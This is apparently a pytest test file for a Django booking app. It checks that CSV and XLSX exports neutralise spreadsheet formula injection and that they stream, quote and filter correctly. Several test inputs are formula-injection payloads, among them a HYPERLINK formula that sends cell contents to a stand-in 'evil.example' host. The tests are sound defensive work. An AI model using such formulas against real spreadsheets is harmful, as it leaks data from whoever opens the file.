"""The CSV export is safe to open in a spreadsheet, filtered by date, and streamed."""

import csv
import datetime
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone
from wagtail.models import PageLogEntry

from booking.export import cell, neutralise, stream_rows
from tests.booking.factories import BookingSubmissionFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        "+1",
        "-1",
        "@SUM(A1:A9)",
        "\tleading tab",
        "\rleading carriage return",
        "=1+2",
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(dangerous):
    assert neutralise(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Avery", "1 + 1", "a=b", "555-0100", "", "O'Neil"])
def test_ordinary_cells_are_left_alone(harmless):
    assert neutralise(harmless) == harmless


@pytest.mark.parametrize(
    ("dangerous", "safe"),
    [
        ("a,=1+1", "'a,'=1+1"),
        ("x;@SUM(A1)", "'x;'@SUM(A1)"),
        ("x; +1", "'x; '+1"),
        ("note\n-2+3", "'note\n'-2+3"),
        ("a\t=1", "'a\t'=1"),
        ("=1;=2", "'=1;'=2"),
    ],
)
def test_a_formula_after_a_separator_or_line_break_is_neutralised_too(dangerous, safe):
    """Opened with the other separator, the cell is cut in two: each piece must be text."""
    assert neutralise(dangerous) == safe


def test_every_piece_of_a_neutralised_cell_is_text_whichever_separator_cuts_it():
    for value in ["a,=1+1", "x;@SUM(A1)", "+1 555 0100", "a, -b; @c\n=d"]:
        for separator in (",", ";", "\t", "\n"):
            pieces = neutralise(value).split(separator)
            assert not any(piece.lstrip(" \t").startswith(("=", "+", "-", "@")) for piece in pieces)


def test_a_phone_number_keeps_the_single_leading_apostrophe():
    assert neutralise("+1 555 0100") == "'+1 555 0100"
    assert neutralise("(555) 010-0140") == "(555) 010-0140"


def test_cells_of_other_types():
    assert cell(None) == ""
    assert cell(True) == "Yes"
    assert cell(["-1", "=2"]) == "'-1, '=2"
    assert cell(datetime.date(2026, 3, 4)) == "2026-03-04"


def test_stream_is_utf8_text_with_a_bom_and_rfc4180_quoting():
    lines = list(stream_rows(["Name", "Note"], [['Zoë "Z" Ó', "line one\nline two, still"]]))
    text = "".join(lines)
    assert text.startswith("\ufeffName,Note\r\n")
    assert '"Zoë ""Z"" Ó","line one\nline two, still"\r\n' in text
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["Name", "Note"],
        ['Zoë "Z" Ó', "line one\nline two, still"],
    ]


@pytest.fixture
def export_client(client, booking_manager):
    client.force_login(booking_manager)
    return client


def export(client, page, query="export=csv"):
    url = reverse("booking_requests:index") + "?" + query
    response = client.get(url)
    assert response.status_code == 200
    return response


def rows_of(response):
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))


def test_the_export_neutralises_formulas_submitted_through_the_form(
    client, export_client, booking_page, valid_data
):
    data = dict(
        valid_data,
        full_name='=HYPERLINK("http://evil.example","x")',
        phone="+1 555 010 0140",
        anything_you_would_like_us_to_know_before_we_call="@SUM(A1:A2)",
    )
    export_client.post(booking_page.url, data)
    heading, row = rows_of(export(export_client, booking_page))
    by_heading = dict(zip(heading, row, strict=True))
    assert by_heading["Full name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert by_heading["Phone number"] == "'+1 555 010 0140"
    assert by_heading["Anything you would like us to know before we call?"] == "'@SUM(A1:A2)"


def test_stored_values_with_every_dangerous_start_are_neutralised(export_client, booking_page):
    for value in ["=1+1", "+1", "-1", "@SUM(A1)", "\tTab", "a,=1+1", "x;@SUM(A1)"]:
        BookingSubmissionFactory(page=booking_page, form_data={"full_name": value})
    response = export(export_client, booking_page, "export=csv&ordering=pk")
    heading, *rows = rows_of(response)
    names = [row[heading.index("Full name")] for row in rows]
    assert names == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tTab", "'a,'=1+1", "'x;'@SUM(A1)"]


def test_the_export_streams_with_a_bounded_number_of_queries(
    export_client, booking_page, django_assert_max_num_queries
):
    BookingSubmissionFactory.create_batch(30, page=booking_page)
    with django_assert_max_num_queries(25):
        response = export(export_client, booking_page)
        rows = rows_of(response)
    assert isinstance(response, StreamingHttpResponse)
    assert len(rows) == 31
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="booking-requests-')
    assert "no-store" in response["Cache-Control"]


def test_the_export_is_filtered_by_date_range(export_client, booking_page):
    def on(day):
        submission = BookingSubmissionFactory(page=booking_page, form_data={"full_name": day})
        moment = timezone.make_aware(datetime.datetime.fromisoformat(f"{day} 12:00"))
        type(submission).objects.filter(pk=submission.pk).update(submit_time=moment)

    for day in ["2026-01-10", "2026-02-10", "2026-03-10"]:
        on(day)
    response = export(
        export_client,
        booking_page,
        "export=csv&received_from=2026-02-01&received_to=2026-02-28",
    )
    heading, *rows = rows_of(response)
    names = [row[heading.index("Full name")] for row in rows]
    assert names == ["2026-02-10"]
    logged = PageLogEntry.objects.get(action="booking.export").data["filters"]
    assert logged == {"status": "open", "received": "2026-02-01 to 2026-02-28"}


def test_the_xlsx_export_keeps_formulas_as_text(export_client, booking_page):
    from openpyxl import load_workbook

    BookingSubmissionFactory(page=booking_page, form_data={"full_name": "=1+1"})
    response = export(export_client, booking_page, "export=xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    heading = [cell.value for cell in next(workbook.active.iter_rows(max_row=1))]
    cell_value = workbook.active.cell(row=2, column=heading.index("Full name") + 1)
    assert cell_value.value == "=1+1"
    assert cell_value.data_type == "s"
